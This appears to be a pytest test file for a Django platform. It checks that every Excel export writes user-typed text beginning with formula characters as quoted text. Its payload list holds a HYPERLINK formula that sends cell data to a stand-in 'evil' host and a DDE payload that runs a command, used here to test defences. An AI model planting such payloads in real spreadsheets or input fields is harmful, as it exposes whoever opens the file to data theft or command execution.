"""Formula injection through every Excel export.

An enterprise that titles its asset `=HYPERLINK("http://evil/"&A1,"click")`, or names itself with a DDE
payload, must not put a live formula into the spreadsheets the bureau and officials download. Every
export goes through `ipops.excel`, which writes text that a spreadsheet would read as a formula (= + - @, a
leading tab or carriage return) as text with Excel's quote prefix.

The crawl finds every export in the URLconf (a route ending in `.xlsx`, or a name ending in `-export`), so
a new export is checked the moment it is routed: the real demo of a city, with user-typed text fields set
to the payloads, is downloaded by every role, and every workbook is opened cell by cell.
"""

from __future__ import annotations

import io
import logging
import re
from pathlib import Path

import pytest
from django.apps import apps
from django.conf import settings
from django.db import transaction
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver
from openpyxl import load_workbook

from funds.views.register import TABLES as FUND_TABLES
from ipops.excel import FORMULA_LEADS, Column, workbook_bytes
from ipops.tenancy import scopes_disabled
from tests.api import endpoints

PAYLOADS = (
    '=HYPERLINK("http://evil/"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
)

CITY = "qingdao"

#: Text the city's users type, which exports show: each row of these gets a payload (and its id, so names
#: stay unique).
POISONED = (
    ("ipops.User", "display_name"),
    ("ipops.Organization", "name"),
    ("ipops.IPAsset", "title"),
    ("ipops.IPAsset", "abstract"),
    ("trading.Listing", "title"),
    ("trading.Listing", "description"),
    ("trading.BuyRequest", "title"),
    ("trading.Transaction", "contract_ref"),
    ("trading.Transaction", "recordal_number"),
    ("trading.OperationsCentre", "name"),
    ("pledge_finance.LoanProduct", "name"),
    ("pledge_finance.Loan", "purpose"),
    ("pledge_finance.Loan", "contract_number"),
    ("pledge_finance.Loan", "pledge_registration_number"),
    ("pledge_finance.RiskReserve", "name"),
    ("pledge_finance.ReserveEntry", "note"),
    ("funds.SpecialBudget", "name"),
    ("funds.Expenditure", "note"),
    ("funds.Fund", "name"),
    ("funds.Commitment", "investor"),
    ("funds.Investment", "investee_name"),
    ("funds.Distribution", "note"),
    ("subsidies.Policy", "name"),
    ("subsidies.Claim", "bank_name"),
    ("subsidies.Claim", "bank_account"),
    ("subsidies.Claim", "decision_reason"),
    ("reporting.Indicator", "name"),
    ("reporting.Statistic", "note"),
)

#: What the `<int:pk>` of an export's route names (an export with a parameter missing here fails the crawl,
#: naming it).
PK_SOURCES = {
    "funds-detail-export": "funds.Fund",
    "subsidies-batch-bank-list": "subsidies.PaymentBatch",
    "reporting-indicator-export": "reporting.Indicator",
    "reporting-records-export": "reporting.Indicator",
}
#: The query strings an export needs (each is downloaded with every one).
QUERIES = {"funds-detail-export": [f"?table={table}" for table in FUND_TABLES]}
#: How many objects of a parameterised export are downloaded.
OBJECTS_TRIED = 3

#: Where a workbook may be built: the export helper, the import template (headers, drop-downs and notes:
#: no user data), and the reading of an uploaded CSV (an in-memory workbook read, never served).
WORKBOOK_BUILDERS = {"ipops/excel.py", "ipops/imports/workbook.py", "ipops/imports/reading.py"}


def leaks(content: bytes) -> tuple[list[str], int]:
    """Every formula cell and every formula-leading text without the quote prefix; and how many cells hold
    formula-leading text (the payloads that reached the workbook)."""
    problems = []
    texts = 0
    wb = load_workbook(io.BytesIO(content))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                where = f"{ws.title}!{cell.coordinate}"
                if cell.data_type == "f":
                    problems.append(f"{where} is a formula: {str(cell.value)[:60]!r}")
                elif isinstance(cell.value, str) and cell.value.startswith(FORMULA_LEADS):
                    texts += 1
                    if cell.data_type != "s" or not cell.quotePrefix:
                        problems.append(f"{where} {cell.value[:60]!r} has no quote prefix")
    return problems, texts


# --- the helper --------------------------------------------------------------------------------------


def test_the_helper_writes_every_payload_as_quoted_text():
    rows = [[payload, payload] for payload in PAYLOADS]
    content = workbook_bytes("导出", ["名称", Column("说明", "text")], rows)
    ws = load_workbook(io.BytesIO(content)).active
    for index, payload in enumerate(PAYLOADS, start=2):
        for cell in ws[index]:
            assert cell.data_type == "s", (payload, cell.data_type)
            # The text as typed; XML reads a carriage return in text as a line feed (openpyxl writes it raw),
            # so "\r=1+1" comes back "\n=1+1": still text, still quoted.
            assert cell.value == payload.replace("\r", "\n"), (payload, cell.value)
            assert cell.quotePrefix, payload
    assert leaks(content)[0] == []


def test_ordinary_text_and_numbers_keep_their_types():
    content = workbook_bytes(
        "导出", ["名称", Column("金额", "money"), "数量"], [["青岛科技", "12345.67", -3]]
    )
    ws = load_workbook(io.BytesIO(content)).active
    name, amount, count = ws[2]
    assert (name.value, name.quotePrefix) == ("青岛科技", False)
    assert amount.data_type == "n" and count.value == -3 and count.data_type == "n"


# --- no export bypasses the helper ------------------------------------------------------------------------


def test_no_export_builds_its_own_workbook():
    root = Path(settings.BASE_DIR)
    found = []
    for path in root.rglob("*.py"):
        relative = path.relative_to(root).as_posix()
        if relative.startswith((".venv/", "node_modules/", "tests/")) or "/migrations/" in relative:
            continue
        text = path.read_text(encoding="utf-8")
        if (
            re.search(r"\bWorkbook\(|openpyxl\.Workbook\b|xlsxwriter", text)
            and relative not in WORKBOOK_BUILDERS
        ):
            found.append(relative)
    assert not found, f"workbooks built outside ipops.excel: {found}"


# --- the crawl ---------------------------------------------------------------------------------------------


def export_routes() -> list[tuple[str, str]]:
    """(name, route) of every export the URLconf routes."""
    found = []

    def walk(patterns, prefix: str) -> None:
        for pattern in patterns:
            route = prefix + str(pattern.pattern)
            if isinstance(pattern, URLResolver):
                walk(pattern.url_patterns, route)
            elif isinstance(pattern, URLPattern) and (
                route.endswith(".xlsx") or (pattern.name or "").endswith("-export")
            ):
                found.append((pattern.name or route, route))

    walk(get_resolver().url_patterns, "/")
    return found


def test_the_crawl_finds_the_exports():
    names = {name for name, _route in export_routes()}
    assert {"asset-export", "people-export", "trading-deals-export", "funds-list-export"} <= names
    assert {"pledge-reserve-export", "subsidies-batch-bank-list", "reporting-scoreboard-export"} <= names


@pytest.fixture(scope="module")
def poisoned_world(django_db_setup, django_db_blocker):
    request_log = logging.getLogger("django.request")
    level = request_log.level
    request_log.setLevel(logging.CRITICAL)
    with django_db_blocker.unblock(), transaction.atomic():
        world = endpoints.seed_world()
        with scopes_disabled():
            _poison()
        yield world
        transaction.set_rollback(True)
    request_log.setLevel(level)


def _poison() -> None:
    for label, field_name in POISONED:
        model = apps.get_model(label)
        limit = model._meta.get_field(field_name).max_length
        rows = list(model._default_manager.order_by("pk"))
        for index, row in enumerate(rows):
            value = f"{PAYLOADS[index % len(PAYLOADS)]} #{row.pk}"
            setattr(row, field_name, value[:limit] if limit else value)
        model._default_manager.bulk_update(rows, [field_name], batch_size=500)


def _urls(world, name: str, route: str) -> tuple[list[str], str]:
    """The export's URLs in the city ('' and a reason when a parameter cannot be filled)."""
    url = route.replace("<slug:city>", CITY)
    urls = [url]
    if "<int:pk>" in url:
        source = PK_SOURCES.get(name)
        if source is None:
            return [], f"{name} ({route}): say in PK_SOURCES what its <int:pk> names"
        pks = world.any_of(apps.get_model(source), CITY, limit=OBJECTS_TRIED)
        if not pks:
            return [], f"{name}: the demo has no {source} in {CITY}"
        urls = [url.replace("<int:pk>", str(pk)) for pk in pks]
    if "<" in urls[0]:
        return [], f"{name} ({route}): a parameter the crawl cannot fill"
    return [u + query for u in urls for query in QUERIES.get(name, [""])], ""


def test_every_export_as_every_role_has_no_live_formula(poisoned_world, db):
    world = poisoned_world
    problems: list[str] = []
    payload_cells = 0
    routes = export_routes()
    for name, route in routes:
        urls, why = _urls(world, name, route)
        if why:
            problems.append(why)
            continue
        downloaded = False
        for caller in world.callers[CITY]:
            client = Client()
            client.force_login(caller.user)
            for url in urls:
                with transaction.atomic():
                    response = client.get(url)
                    transaction.set_rollback(True)
                if response.status_code != 200 or "spreadsheetml" not in response.get("Content-Type", ""):
                    continue
                downloaded = True
                found, texts = leaks(response.content)
                payload_cells += texts
                problems += [f"{url} as {caller.label}: {line}" for line in found[:5]]
        if not downloaded:
            problems.append(f"{name}: no role downloads {urls[0]}")
    assert not problems, f"exports that leak ({len(problems)}):\n  " + "\n  ".join(problems)
    assert payload_cells, "no payload reached any export: the crawl checks nothing"
    assert len(routes) >= 10
